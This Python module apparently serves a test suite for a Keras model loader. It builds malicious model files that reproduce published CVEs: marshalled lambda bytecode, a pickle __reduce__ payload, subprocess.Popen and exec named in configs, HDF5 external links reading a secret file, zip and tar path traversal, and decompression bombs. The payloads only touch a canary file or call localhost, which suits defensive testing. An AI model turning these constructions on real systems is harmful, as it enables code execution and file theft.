"""Model files that would do harm where Keras opened them, rebuilt from what was published. Made without Keras.

Each writes the file `canary`, or calls the port, or reads `secret`, were it to run.
"""

import base64
import io
import json
import marshal
import os
import pickle
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np


@dataclass(frozen=True)
class Scene:
    """Where an attack happens."""

    folder: Path
    canary: Path
    """Must never come to be."""
    secret: Path
    """Must never be read."""
    port: int
    """Of this computer; must never be called."""

    def h5(self, layers: list[dict[str, Any]], training: dict[str, Any] | None = None) -> Path:
        path = self.folder / "attack.h5"
        with h5py.File(path, "w") as file:
            file.attrs["keras_version"] = "3.15.1"
            file.attrs["backend"] = "tensorflow"
            file.attrs["model_config"] = json.dumps(sequential(layers))
            if training:
                file.attrs["training_config"] = json.dumps(training)
            weights(file)
        return path

    def keras(self, layers: list[dict[str, Any]], **more: Any) -> Path:
        return self.zipped(json.dumps(sequential(layers) | more))

    def zipped(self, config: str, extra: dict[str, bytes] | None = None, compression: int = zipfile.ZIP_STORED) -> Path:
        path, buffer = self.folder / "attack.keras", io.BytesIO()
        with h5py.File(buffer, "w") as file:
            file.create_group("layers")
        with zipfile.ZipFile(path, "w", compression) as archive:
            archive.writestr(
                "metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"})
            )
            archive.writestr("config.json", config)
            archive.writestr("model.weights.h5", buffer.getvalue())
            for name, content in (extra or {}).items():
                archive.writestr(name, content)
        return path

    def plain_h5(self) -> Path:
        """The file of an honest network, to be spoiled."""
        return self.h5([dense()])

    @property
    def bytecode(self) -> str:
        """A lambda that writes the canary, as Keras stores it."""
        made = eval(f"lambda x: (open({str(self.canary)!r}, 'w').close(), x)[1]")
        return base64.b64encode(marshal.dumps(made.__code__)).decode()


def sequential(layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [entrance(), *layers]},
        "registered_name": None,
    }


def entrance() -> dict[str, Any]:
    return layer("InputLayer", name="raster", batch_shape=[None, 784], dtype="float32")


def layer(kind: str, module: str | None = "keras.layers", **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": kind, "config": config, "registered_name": None}


def dense(**config: Any) -> dict[str, Any]:
    return layer("Dense", **{"name": "dense", "units": 10, "activation": "softmax", **config})


def function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def weights(file: h5py.File, labels: int = 10) -> None:
    group = file.create_group("model_weights")
    group.attrs["layer_names"] = ["dense"]
    inner = group.create_group("dense")
    inner.attrs["weight_names"] = ["dense/kernel", "dense/bias"]
    rng = np.random.default_rng(0)
    inner["dense/kernel"] = rng.normal(0, 0.1, (784, labels)).astype(np.float32)
    inner["dense/bias"] = np.zeros(labels, np.float32)


class _Pickled:
    def __init__(self, canary: Path) -> None:
        self._canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (str(self._canary), "w")


ATTACKS: dict[str, tuple[str, Callable[[Scene], Path]]] = {}
"""What it is called → what its refusal must say, and how it is made."""


def _attack(name: str, said: str) -> Callable[[Callable[[Scene], Path]], Callable[[Scene], Path]]:
    def enter(made: Callable[[Scene], Path]) -> Callable[[Scene], Path]:
        ATTACKS[name] = (said, made)
        return made

    return enter


# Code in the file --------------------------------------------------------------------------------------------------


@_attack("CVE-2024-3660: a lambda's bytecode in a .keras file", "run code of its own.*Lambda")
def lambda_keras(scene: Scene) -> Path:
    code = {"class_name": "__lambda__", "config": {"code": scene.bytecode, "defaults": None, "closure": None}}
    return scene.keras([layer("Lambda", name="x", function=code, arguments={}), dense()])


@_attack("CVE-2025-9905: the same in HDF5, where Keras' safe mode was ignored", "run code of its own.*Lambda")
def lambda_h5(scene: Scene) -> Path:
    code = {"class_name": "__lambda__", "config": {"code": scene.bytecode, "defaults": None, "closure": None}}
    return scene.h5([layer("Lambda", name="x", function=code, arguments={}), dense()])


@_attack("a lambda where an activation belongs", "run code of its own.*__lambda__")
def lambda_activation(scene: Scene) -> Path:
    code = {"class_name": "__lambda__", "config": {"code": scene.bytecode, "defaults": None, "closure": None}}
    return scene.h5([dense(activation=code)])


@_attack("CVE-2025-49655: a pickled torch module", "run code of its own.*TorchModuleWrapper")
def torch(scene: Scene) -> Path:
    pickled = base64.b64encode(pickle.dumps(_Pickled(scene.canary))).decode()
    inner = {"class_name": "__bytes__", "config": {"value": pickled}}
    return scene.keras([layer("TorchModuleWrapper") | {"config": {"name": "x", "module": inner}}, dense()])


# Code by name ------------------------------------------------------------------------------------------------------


@_attack("CVE-2025-1550: any function of any module", "run code of its own.*subprocess")
def any_module(scene: Scene) -> Path:
    call = {"inbound_nodes": [{"args": [["touch", str(scene.canary)]], "kwargs": {"bufsize": -1}}], "name": "x"}
    return scene.keras([function("subprocess", "Popen") | call, dense()])


@_attack("CVE-2025-8747: a download by a function of Keras", "run code of its own.*(get_file|Lambda)")
def get_file(scene: Scene) -> Path:
    options = {"origin": f"http://127.0.0.1:{scene.port}/x", "cache_dir": str(scene.folder), "force_download": True}
    lambda_ = layer("Lambda", name="x", function=function("keras.utils", "get_file"), arguments=options)
    call = {"inbound_nodes": [{"args": [], "kwargs": {"inputs": "x"}}]}
    return scene.keras([lambda_ | call, dense()])


@_attack("CVE-2025-9906: safe mode switched off by the file itself", "run code of its own")
def unsafe(scene: Scene) -> Path:
    off = layer("Lambda", name="off", function=function("keras.config", "enable_unsafe_deserialization"), arguments={})
    code = {"class_name": "__lambda__", "config": {"code": scene.bytecode, "defaults": None, "closure": None}}
    return scene.keras([off, layer("Lambda", name="x", function=code, arguments={}), dense()])


@_attack("CVE-2025-9906: a second file, loaded without safe mode", "run code of its own")
def nested_load(scene: Scene) -> Path:
    lambda_keras(scene).rename(scene.folder / "second.keras")
    options = {"safe_mode": False}
    lambda_ = layer("Lambda", name="x", function=function("keras.models", "load_model"), arguments=options)
    call = {"inbound_nodes": [{"args": [], "kwargs": {"inputs": str(scene.folder / "second.keras")}}]}
    return scene.keras([lambda_ | call, dense()])


@_attack("CVE-2025-12060: an archive that leaves its folder", "run code of its own")
def tar(scene: Scene) -> Path:
    with tarfile.open(scene.folder / "x.tar", "w") as archive:
        archive.addfile(tarfile.TarInfo(f"../../..{scene.canary}"), io.BytesIO())
    options = {"origin": (scene.folder / "x.tar").as_uri(), "extract": True, "cache_dir": str(scene.folder)}
    return scene.keras([layer("Lambda", name="x", function=function("keras.utils", "get_file"), arguments=options)])


@_attack("a class by the path of its module", "run code of its own.*os")
def by_path(scene: Scene) -> Path:
    return scene.h5([layer("Dense", module="os", name="dense", units=10)])


@_attack("a class inside Keras by its private path", "run code of its own.*keras.src")
def private_path(scene: Scene) -> Path:
    return scene.keras([layer("Dense", module="keras.src.layers.core.dense", name="dense", units=10)])


@_attack("a registered class", "run code of its own.*mine>Dense")
def registered(scene: Scene) -> Path:
    return scene.h5([dense() | {"registered_name": "mine>Dense"}])


@_attack("an activation by name of a module", "run code of its own.*os.system")
def activation_name(scene: Scene) -> Path:
    return scene.h5([dense(activation="os.system")])


@_attack("an initializer that is a function", "run code of its own.*exec")
def initializer(scene: Scene) -> Path:
    return scene.h5([dense(kernel_initializer=function("builtins", "exec"))])


@_attack("a regularizer of another module", "run code of its own.*keras.utils")
def regularizer(scene: Scene) -> Path:
    return scene.h5([dense(kernel_regularizer=layer("get_file", module="keras.utils"))])


@_attack("a loss by the path of its module", "run code of its own.*subprocess")
def loss(scene: Scene) -> Path:
    return scene.h5([dense()], training={"loss": function("subprocess", "check_output"), "metrics": ["accuracy"]})


@_attack("an optimizer that was registered", "run code of its own.*mine>Adam")
def optimizer(scene: Scene) -> Path:
    return scene.keras([dense()], compile_config={"optimizer": {"class_name": "Adam", "registered_name": "mine>Adam"}})


@_attack("a name hidden where no class is named", "run code of its own.*registered_name")
def hidden(scene: Scene) -> Path:
    return scene.h5([dense(kernel_initializer={"registered_name": "mine>x", "config": {}})])


# Other files -------------------------------------------------------------------------------------------------------


@_attack("CVE-2026-1462: a saved TensorFlow graph", "run code of its own.*TFSMLayer")
def saved_model(scene: Scene) -> Path:
    return scene.keras([layer("TFSMLayer", name="x", filepath=str(scene.folder), call_endpoint="serve"), dense()])


@_attack("CVE-2025-12058: a vocabulary that is a file of this computer", "run code of its own.*StringLookup")
def vocabulary(scene: Scene) -> Path:
    return scene.keras([layer("StringLookup", name="x", vocabulary=str(scene.secret)), dense()])


@_attack("CVE-2026-12479: a layer named like a path", "name of a file")
def layer_name(scene: Scene) -> Path:
    return scene.keras([dense(name=f"../../..{scene.canary}")])


@_attack("CVE-2026-1669: numbers in another file", "from another file")
def external_storage(scene: Scene) -> Path:
    path = scene.plain_h5()
    with h5py.File(path, "a") as file:
        del file["model_weights/dense/dense/bias"]
        outside = [(str(scene.secret), 0, 40)]
        file.create_dataset("model_weights/dense/dense/bias", (10,), np.float32, external=outside)
    return path


@_attack("an external link", "links to bias")
def external_link(scene: Scene) -> Path:
    path = scene.plain_h5()
    with h5py.File(path, "a") as file:
        del file["model_weights/dense/dense/bias"]
        file["model_weights/dense/dense/bias"] = h5py.ExternalLink(str(scene.secret), "/x")
    return path


@_attack("a soft link", "links to bias")
def soft_link(scene: Scene) -> Path:
    path = scene.plain_h5()
    with h5py.File(path, "a") as file:
        del file["model_weights/dense/dense/bias"]
        file["model_weights/dense/dense/bias"] = h5py.SoftLink("/model_weights/dense/dense/kernel")
    return path


@_attack("an external link among the state of the optimizer", "links to Adam")
def link_in_training(scene: Scene) -> Path:
    path = scene.plain_h5()
    with h5py.File(path, "a") as file:
        file["optimizer_weights/Adam"] = h5py.ExternalLink(str(scene.secret), "/x")
    return path


@_attack("a virtual dataset", "from another file")
def virtual(scene: Scene) -> Path:
    path = scene.plain_h5()
    layout = h5py.VirtualLayout((10,), np.float32)
    layout[:] = h5py.VirtualSource(str(scene.secret), "x", (10,))
    with h5py.File(path, "a") as file:
        del file["model_weights/dense/dense/bias"]
        file.create_virtual_dataset("model_weights/dense/dense/bias", layout)
    return path


@_attack("a .keras file whose weights lie in another file", "from another file")
def external_in_archive(scene: Scene) -> Path:
    inner = scene.folder / "inner.h5"
    with h5py.File(inner, "w") as file:
        outside = [(str(scene.secret), 0, 40)]
        file.create_dataset("layers/dense/vars/1", (10,), np.float32, external=outside)
    path = scene.folder / "attack.keras"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", '{"keras_version": "3.15.1"}')
        archive.writestr("config.json", json.dumps(sequential([dense()])))
        archive.write(inner, "model.weights.h5")
    return path


@_attack("an archive with a name that leaves its folder", "no network of plain layers needs")
def zip_traversal(scene: Scene) -> Path:
    return scene.zipped(json.dumps(sequential([dense()])), {f"../../..{scene.canary}": b"x"})


@_attack("an archive with a link in it", "no network of plain layers needs")
def zip_link(scene: Scene) -> Path:
    path = scene.zipped(json.dumps(sequential([dense()])))
    with zipfile.ZipFile(path, "a") as archive:
        link = zipfile.ZipInfo("assets/x")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(scene.secret))
    return path


@_attack("an archive that holds the configuration twice", "once")
def zip_twice(scene: Scene) -> Path:
    path = scene.zipped(json.dumps(sequential([dense()])))
    with zipfile.ZipFile(path, "a") as archive, warnings.catch_warnings(action="ignore"):
        archive.writestr("config.json", json.dumps(sequential([layer("Lambda", name="x")])))
    return path


# Too much ----------------------------------------------------------------------------------------------------------


@_attack("CVE-2026-0897: numbers that are only declared", "holds fewer")
def declared(scene: Scene) -> Path:
    path = scene.plain_h5()
    with h5py.File(path, "a") as file:
        del file["model_weights/dense/dense/kernel"]
        file.create_dataset("model_weights/dense/dense/kernel", (1 << 20, 1 << 20), np.float32)
    return path


@_attack("numbers compressed a thousandfold", "is compressed")
def compressed(scene: Scene) -> Path:
    path = scene.plain_h5()
    with h5py.File(path, "a") as file:
        zeros = {"data": np.zeros(1 << 24, np.float32), "chunks": (1 << 20,), "compression": "gzip"}
        file.create_dataset("model_weights/dense/dense/zeros", **zeros)
    return path


@_attack("an archive compressed a thousandfold", "is compressed")
def zip_bomb(scene: Scene) -> Path:
    config = json.dumps(sequential([dense()])) + " " * (1 << 26)
    return scene.zipped(config, compression=zipfile.ZIP_DEFLATED)


@_attack("a layer of a billion units", "too large: units")
def units(scene: Scene) -> Path:
    return scene.h5([dense(units=10**9)])


@_attack("an input of a million million pixels", "too large: batch_shape")
def pixels(scene: Scene) -> Path:
    return scene.h5([layer("InputLayer", name="x", batch_shape=[None, 65_536, 65_536, 256], dtype="float32")])


@_attack("groups nested a hundred deep", "nested more than")
def nested(scene: Scene) -> Path:
    path = scene.plain_h5()
    with h5py.File(path, "a") as file:
        file.create_group("model_weights/" + "/".join("x" * 100))
    return path


@_attack("a group that contains itself", "inside itself")
def cyclic(scene: Scene) -> Path:
    path = scene.plain_h5()
    with h5py.File(path, "a") as file:
        file["model_weights/dense/again"] = file["model_weights"]
    return path


@_attack("a configuration nested a thousand deep", "deeper or longer|cannot be read")
def deep_json(scene: Scene) -> Path:
    return scene.zipped('{"class_name": "Sequential", "config": ' + "[" * 1000 + "]" * 1000 + "}")


@_attack("an attribute of 64 MB", "longer than any")
def attribute(scene: Scene) -> Path:
    path = scene.plain_h5()
    with h5py.File(path, "a") as file:
        file["model_weights"].attrs["backend"] = "x" * (64 << 20)
    return path


@_attack("ten thousand groups", "holds more than")
def many(scene: Scene) -> Path:
    path = scene.plain_h5()
    with h5py.File(path, "a", libver="latest") as file:
        group = file.create_group("model_weights/many")
        for number in range(10_100):
            group.create_group(str(number))
    return path


@_attack("not a number", "cannot be read")
def not_a_number(scene: Scene) -> Path:
    return scene.zipped(json.dumps(sequential([layer("Rescaling", name="x", scale=float("nan"))])))


@_attack("a file of another kind", "not a model that Keras saved")
def other_kind(scene: Scene) -> Path:
    path = scene.folder / "attack.h5"
    path.write_bytes(pickle.dumps(_Pickled(scene.canary)) + os.urandom(1000))
    return path
